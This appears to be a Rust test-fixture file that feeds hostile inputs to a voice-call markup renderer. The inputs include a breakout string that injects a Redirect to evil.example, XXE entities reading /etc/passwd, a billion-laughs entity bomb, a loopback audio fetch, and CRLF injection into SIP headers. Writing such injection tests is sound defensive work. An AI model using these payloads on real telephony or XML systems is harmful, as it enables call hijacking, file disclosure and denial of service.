//! Puts markup, control characters and line ends wherever a text goes.

use shape::jackfield::plugin::decisions::{AskConsent, Conference, SipTarget, Target};
use shape::jackfield::plugin::types::Extension;
use shape::{Action, Prompt, PromptContent, text};

use super::{collect, converse, enqueue, menu, number, one, say, ssml, transfer, voicemail};

/// Closes whatever it stands in, and begins a verb.
const BREAKOUT: &str = "\"'></Say></Response><Redirect>http://evil.example/</Redirect><Say a=\"&#0;]]>";

pub(super) fn actions(sin: &str) -> Option<Vec<Action>> {
    texts(sin).or_else(|| spoken(sin)).or_else(|| elsewhere(sin))
}

fn texts(sin: &str) -> Option<Vec<Action>> {
    match sin {
        "empty-text" => one(say("  ")),
        "control-characters" => one(say("bell \u{7} and escape \u{1b}[2J")),
        "last-character" => one(say("the end \u{ffff}")),
        "markup-in-text" => one(say(BREAKOUT)),
        "entities-in-text" => one(say("&lt;Redirect&gt; &#60;Hangup/&#62; <![CDATA[<Hangup/>]]> <!-- <?php")),
        "unknown-prompt" => one(Action::Say(Prompt {
            content: PromptContent::Other(Extension { kind: "hypnosis".into(), data: "{}".into() }),
            language: None,
            voice: None,
        })),
        "bad-language" => one(Action::SetLanguage("../../etc".into())),
        "markup-in-language" => one(Action::SetLanguage("en\"><Hangup/>".into())),
        "language-of-a-prompt" => one(Action::Say(Prompt { language: Some("e\u{7}".into()), ..text("Hello.") })),
        "markup-in-voice" => one(Action::Say(Prompt { voice: Some(BREAKOUT.into()), ..text("Hello.") })),
        "control-in-voice" => one(Action::Say(Prompt { voice: Some("Polly.\u{1}\n".into()), ..text("Hello.") })),
        _ => None,
    }
}

fn spoken(sin: &str) -> Option<Vec<Action>> {
    let lol = |at: u32| format!("<!ENTITY l{} \"&l{at};&l{at};&l{at};&l{at};&l{at};&l{at};&l{at};&l{at};\">", at + 1);
    match sin {
        "broken-ssml" => one(ssml("<speak><prosody rate='slow'>never closed</speak>")),
        "hostile-ssml" => one(ssml("<speak><!DOCTYPE x [<!ENTITY a 'b'>]>&a;</speak><Redirect>http://evil.example</Redirect>")),
        "ssml-that-closes-too-much" => one(ssml("<speak>Hello.</speak></Say><Redirect>http://evil.example/</Redirect><Say>")),
        "ssml-with-a-verb" => one(ssml("<speak><Redirect>http://evil.example/</Redirect></speak>")),
        "ssml-with-audio" => one(ssml("<speak><audio src=\"http://127.0.0.1/\"/></speak>")),
        "ssml-with-an-instruction" => one(ssml("<speak><?xml-stylesheet href='http://evil.example/'?>Hello.</speak>")),
        "ssml-that-includes-a-file" => one(ssml("<!DOCTYPE s [<!ENTITY f SYSTEM 'file:///etc/passwd'>]><speak>&f;</speak>")),
        "ssml-that-laughs" => {
            let entities: String = (0..20).map(lol).collect();
            one(ssml(format!("<!DOCTYPE s [<!ENTITY l0 \"lol\">{entities}]><speak>&l20;</speak>")))
        }
        "ssml-without-a-floor" => one(ssml(format!("<speak>{}{}</speak>", "<p>".repeat(3_000), "</p>".repeat(3_000)))),
        "ssml-with-a-bell" => one(ssml("<speak>bell &#7;</speak>")),
        "ssml-with-an-event" => one(ssml("<speak><p onload=\"alert(1)\">Hello.</p></speak>")),
        "ssml-with-a-namespace" => one(ssml("<speak xmlns:x=\"http://evil.example/\"><x:p>Hello.</x:p></speak>")),
        "ssml-with-hidden-text" => one(ssml("<speak><![CDATA[</Say><Hangup/>]]> &lt;Hangup/&gt;<!-- <Hangup/> --></speak>")),
        _ => None,
    }
}

fn elsewhere(sin: &str) -> Option<Vec<Action>> {
    let sip = |uri: &str, headers: &[(&str, &str)]| {
        let headers = headers.iter().map(|(name, value)| ((*name).into(), (*value).into())).collect();
        one(Action::Transfer(transfer(vec![Target::Sip(SipTarget { uri: uri.into(), headers })])))
    };
    match sin {
        "bad-tag" => one(Action::Enqueue(enqueue("front-desk").tagged("a tag?with=\"everything\"&more"))),
        "markup-in-tag" => one(Action::Continue(BREAKOUT.into())),
        "markup-in-queue" => one(Action::Enqueue(enqueue(BREAKOUT))),
        "markup-in-hints" => {
            let mut question = collect();
            question.speech = true;
            question.hints = vec![BREAKOUT.into(), "one, two".into()];
            one(Action::Collect(question))
        }
        "markup-in-choices" => {
            let mut question = menu(&["1", "2"]);
            question.collect.speech = true;
            for choice in &mut question.choices {
                choice.label = format!("{BREAKOUT}{}", choice.key);
                choice.phrases = vec![BREAKOUT.into()];
            }
            one(Action::Menu(question))
        }
        "control-in-phrases" => {
            let mut question = menu(&["1"]);
            question.collect.speech = true;
            question.choices[0].phrases = vec!["bell \u{7}".into()];
            one(Action::Menu(question))
        }
        "markup-in-attributes" => Some(vec![Action::SetAttributes(vec![(BREAKOUT.into(), BREAKOUT.into())]), say("Hello.")]),
        "control-in-attributes" => one(Action::SetAttributes(vec![("name".into(), "a\u{0}b".into())])),
        "markup-in-a-conference" => one(Action::Conference(Conference { name: BREAKOUT.into(), ..conference() })),
        "markup-in-a-mailbox" => {
            one(Action::Voicemail(shape::jackfield::plugin::decisions::Voicemail { mailbox: Some(BREAKOUT.into()), ..voicemail(60_000) }))
        }
        "markup-in-consent" => one(Action::AskConsent(AskConsent {
            topic: BREAKOUT.into(),
            prompts: vec![text("May I?")],
            accept_key: "1".into(),
            timeout: 5_000,
        })),
        "markup-in-a-sip-address" => sip("sip:a@example.com\"></Sip><Hangup/>", &[]),
        "line-in-a-sip-address" => sip("sip:a@example.com\r\nX-Evil:\u{20}1", &[]),
        "header-that-is-not-ours" => sip("sip:a@example.com", &[("Contact", "<sip:evil@example.com>")]),
        "line-in-a-header" => sip("sip:a@example.com", &[("X-A", "1\r\nVia: SIP/2.0/UDP evil.example")]),
        "markup-in-a-header-name" => sip("sip:a@example.com", &[("X-A\"><Hangup/>", "1")]),
        "markup-in-a-greeting" => one(Action::Converse(converse(BREAKOUT, BREAKOUT))),
        "control-in-a-greeting" => one(Action::Converse(converse("Be kind.", "bell \u{7}"))),
        "control-in-instructions" => one(Action::Converse(converse("Be\u{0} kind.", "Hello."))),
        "markup-in-a-whisper" => {
            let mut call = transfer(vec![number("+14155550111")]);
            call.whisper = Some(text(BREAKOUT));
            one(Action::Transfer(call))
        }
        "markup-in-a-farewell" => Some(vec![say("Bye."), Action::HangUp(Some(BREAKOUT.into()))]),
        _ => None,
    }
}

fn conference() -> Conference {
    Conference {
        tag: "room".into(),
        name: "room".into(),
        start_on_enter: true,
        end_on_exit: true,
        muted: false,
        max_participants: None,
        hold_music: None,
    }
}

/// A queue entry under another tag.
trait Tagged {
    fn tagged(self, tag: &str) -> Self;
}

impl Tagged for shape::jackfield::plugin::decisions::Enqueue {
    fn tagged(self, tag: &str) -> Self {
        Self { tag: tag.into(), ..self }
    }
}
